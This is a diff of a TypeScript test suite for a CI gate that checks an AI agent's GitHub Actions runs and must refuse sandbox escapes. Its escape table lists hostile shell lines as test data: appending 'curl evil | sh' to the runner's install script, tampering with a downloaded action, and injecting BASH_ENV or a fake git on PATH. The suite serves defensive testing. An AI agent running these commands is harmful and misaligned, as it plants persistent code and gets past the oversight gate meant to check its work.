@@ -155,6 +155,39 @@ async function agentWorkflow(
 
 const describeIf = hasBwrap ? describe : describe.skip;
 
+/** Each escape class: the agent's extra lines, and what the gate must name (and nothing else). */
+const escapes: Array<[string, (h: Machine) => string, (h: Machine) => Partial<Violation>[]]> = [
+  [
+    "a write to ~/.bashrc",
+    () => `echo 'alias ls=true' >> ~/.bashrc`,
+    (h) => [{ path: `${h.paths.home}/.bashrc`, reason: "outside_write_roots" }],
+  ],
+  [
+    "a write to the runner's install",
+    (h) => `echo 'curl evil | sh' >> ${h.paths.root}/run-helper.sh`,
+    (h) => [{ path: `${h.paths.root}/run-helper.sh`, reason: "protected" }],
+  ],
+  [
+    "a write to a downloaded action",
+    (h) => `echo '// pwned' >> ${h.paths.actions}/actions/upload-artifact/*/dist/index.mjs`,
+    (h) => [
+      { path: expect.stringContaining(`${h.paths.actions}/actions/upload-artifact/`), reason: "protected" },
+    ],
+  ],
+  [
+    "a variable injected through GITHUB_ENV",
+    () =>
+      `echo true > "$RUNNER_TEMP/agent-scratch/env.sh"\necho "BASH_ENV=$RUNNER_TEMP/agent-scratch/env.sh" >> "$GITHUB_ENV"`,
+    () => [{ path: "$BASH_ENV", reason: "environment" }],
+  ],
+  [
+    "a PATH entry injected through GITHUB_PATH",
+    () =>
+      `d="$RUNNER_TEMP/agent-scratch/bin"; mkdir -p "$d"\nprintf '#!/bin/bash\\ncase "$(cat /proc/$PPID/comm)" in node*) touch "$RUNNER_TEMP/agent-scratch/gate-ran-fake-git";; esac\\nexec /usr/bin/git "$@"\\n' > "$d/git"\nchmod +x "$d/git"\necho "$d" >> "$GITHUB_PATH"`,
+    (h) => [{ path: `PATH entry ${h.paths.temp}/agent-scratch/bin`, reason: "environment" }],
+  ],
+];
+
 describeIf("agent-run.yml on a hosted runner: snapshot, agent, gate in one job", () => {
   let clean: AgentRun;
   beforeAll(async () => {
@@ -193,38 +226,6 @@ describeIf("agent-run.yml on a hosted runner: snapshot, agent, gate in one job",
     expect(branches).toContain(`agent/issue-${ISSUE}`);
   }, 120_000);
 
-  const escapes: Array<[string, (h: Machine) => string, (h: Machine) => Partial<Violation>[]]> = [
-    [
-      "a write to ~/.bashrc",
-      () => `echo 'alias ls=true' >> ~/.bashrc`,
-      (h) => [{ path: `${h.paths.home}/.bashrc`, reason: "outside_write_roots" }],
-    ],
-    [
-      "a write to the runner's install",
-      (h) => `echo 'curl evil | sh' >> ${h.paths.root}/run-helper.sh`,
-      (h) => [{ path: `${h.paths.root}/run-helper.sh`, reason: "protected" }],
-    ],
-    [
-      "a write to a downloaded action",
-      (h) => `echo '// pwned' >> ${h.paths.actions}/actions/upload-artifact/*/dist/index.mjs`,
-      (h) => [
-        { path: expect.stringContaining(`${h.paths.actions}/actions/upload-artifact/`), reason: "protected" },
-      ],
-    ],
-    [
-      "a variable injected through GITHUB_ENV",
-      () =>
-        `echo true > "$RUNNER_TEMP/agent-scratch/env.sh"\necho "BASH_ENV=$RUNNER_TEMP/agent-scratch/env.sh" >> "$GITHUB_ENV"`,
-      () => [{ path: "$BASH_ENV", reason: "environment" }],
-    ],
-    [
-      "a PATH entry injected through GITHUB_PATH",
-      () =>
-        `d="$RUNNER_TEMP/agent-scratch/bin"; mkdir -p "$d"\nprintf '#!/bin/bash\\ncase "$(cat /proc/$PPID/comm)" in node*) touch "$RUNNER_TEMP/agent-scratch/gate-ran-fake-git";; esac\\nexec /usr/bin/git "$@"\\n' > "$d/git"\nchmod +x "$d/git"\necho "$d" >> "$GITHUB_PATH"`,
-      (h) => [{ path: `PATH entry ${h.paths.temp}/agent-scratch/bin`, reason: "environment" }],
-    ],
-  ];
-
   it("reads GITHUB_ENV as the runner does: a heredoc sets a variable (refused, named), NODE_OPTIONS is refused by the runner itself", async () => {
     const run = await agentWorkflow(
       "agent-run.yml",
@@ -244,21 +245,25 @@ describeIf("agent-run.yml on a hosted runner: snapshot, agent, gate in one job",
   for (const [title, body, expected] of escapes) {
     it(`refuses ${title}, naming it and nothing else`, async () => {
       const run = await agentWorkflow("agent-run.yml", "hosted", body(HOSTED));
-      const job = await run.runAgent();
-      const gate = step(job, "Gate the run");
-      expect(gate.status, gate.stdout).toBe("failure");
-      expect(gate.outputs?.verdict).toBe("refused");
-      const got = violations(gate);
-      expect(got).toEqual(expected(run.host).map((v) => expect.objectContaining(v)));
-      // Nothing after the gate ran: the bundle was never uploaded.
-      expect(step(job, "Bundle the agent's commits").status).toBe("skipped");
-      // The gate looked git up on PATH as it was at the snapshot: the planted git never ran.
-      expect(readdirSync(run.host.host(`${run.host.paths.temp}/agent-scratch`))).not.toContain(
-        "fake-git-ran",
-      );
+      await expectRefused(run, expected);
     }, 180_000);
   }
 });
+
+/** The agent job of `run`, refused at the gate naming exactly `expected`, nothing after it run. */
+async function expectRefused(run: AgentRun, expected: (h: Machine) => Partial<Violation>[]): Promise<void> {
+  const job = await run.runAgent();
+  const gate = step(job, "Gate the run");
+  expect(gate.status, gate.stdout).toBe("failure");
+  expect(gate.outputs?.verdict).toBe("refused");
+  expect(violations(gate)).toEqual(expected(run.host).map((v) => expect.objectContaining(v)));
+  // Nothing after the gate ran: the bundle was never uploaded.
+  expect(step(job, "Bundle the agent's commits").status).toBe("skipped");
+  // The gate looked git up on PATH as it was at the snapshot: the planted git never ran in it.
+  expect(readdirSync(run.host.host(`${run.host.paths.temp}/agent-scratch`))).not.toContain(
+    "gate-ran-fake-git",
+  );
+}
 
 describeIf("agent-run.yml on self-hosted runners: an install anywhere, another runner busy beside it", () => {
   it("clean work passes while the other runner's job writes its own install and work folder", async () => {
@@ -282,6 +287,14 @@ describeIf("agent-run.yml on self-hosted runners: an install anywhere, another r
       expect(gate.summary, gate.summary).toContain("another runner (/home/ci/runners/ci-2)'s job");
     }
   }, 300_000);
+
+  const SELF: Machine = { paths: pathsFor("self-hosted", REPO) };
+  for (const [title, body, expected] of escapes) {
+    it(`refuses ${title} on a runner installed in ${SELF.paths.root}, naming it and nothing else`, async () => {
+      const run = await agentWorkflow("agent-run.yml", "self-hosted", body(SELF));
+      await expectRefused(run, expected);
+    }, 180_000);
+  }
 });
 
 describeIf("agent-run-enforced.yml: the agent inside the lease's sandbox", () => {
@@ -313,6 +326,11 @@ describeIf("agent-run-enforced.yml: the agent inside the lease's sandbox", () =>
       "a variable injected through GITHUB_ENV",
       () => `echo "BASH_ENV=/tmp/x" >> "$GITHUB_ENV"`,
       (h) => `${h.paths.temp}/_runner_file_commands/set_env_`,
+    ],
+    [
+      "a PATH entry injected through GITHUB_PATH",
+      () => `echo "$RUNNER_TEMP/agent-scratch/bin" >> "$GITHUB_PATH"`,
+      (h) => `${h.paths.temp}/_runner_file_commands/add_path_`,
     ],
   ];
   for (const [title, body, named] of prevented) {
@@ -397,14 +415,16 @@ describeIf("gate-pull-request.yml: every pull request gated in a job the agent d
     return { job, gh };
   }
 
-  it("a clean pull request passes", async () => {
-    const { job, gh } = await pullRequest({ "src/app.txt": "fixed\n" });
-    const gate = step(job, "Gate the pull request");
-    expect(gate.status, `${gate.stdout}\n${gate.stderr}`).toBe("success");
-    expect(gate.outputs?.verdict).toBe("pass");
-    expect(gh.writes()).toEqual([]);
-    expect(gh.problems).toEqual([]);
-  }, 120_000);
+  it("a clean pull request passes 10 of 10", async () => {
+    for (let i = 0; i < 10; i++) {
+      const { job, gh } = await pullRequest({ "src/app.txt": `fixed ${i}\n` });
+      const gate = step(job, "Gate the pull request");
+      expect(gate.status, `run ${i + 1}: ${gate.stdout}\n${gate.stderr}`).toBe("success");
+      expect(gate.outputs?.verdict).toBe("pass");
+      expect(gh.writes()).toEqual([]);
+      expect(gh.problems).toEqual([]);
+    }
+  }, 600_000);
 
   it("a pull request that changes a protected workflow is refused, named, and marked on GitHub", async () => {
     const { job, gh } = await pullRequest({ ".github/workflows/ci.yml": "on: push\njobs: {}\n" });
